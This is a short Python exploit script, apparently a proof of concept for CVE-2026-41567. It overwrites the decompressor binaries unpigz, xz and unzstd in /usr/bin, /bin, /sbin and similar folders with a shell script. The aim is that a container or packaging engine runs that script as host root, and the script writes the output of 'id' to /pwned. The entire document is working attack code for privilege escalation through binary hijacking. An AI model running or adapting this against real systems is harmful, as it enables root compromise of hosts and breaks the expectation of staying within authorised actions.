"""Plant a decompressor for the engine to run as host root (CVE-2026-41567)"""

from tools import attempt, write

for folder in ("/usr/bin", "/usr/local/bin", "/usr/sbin", "/bin", "/sbin"):
    for name in ("unpigz", "xz", "unzstd"):
        attempt(f"{folder}/{name}", lambda p=f"{folder}/{name}": write(p, b"#!/bin/sh\nid > /pwned\n"))
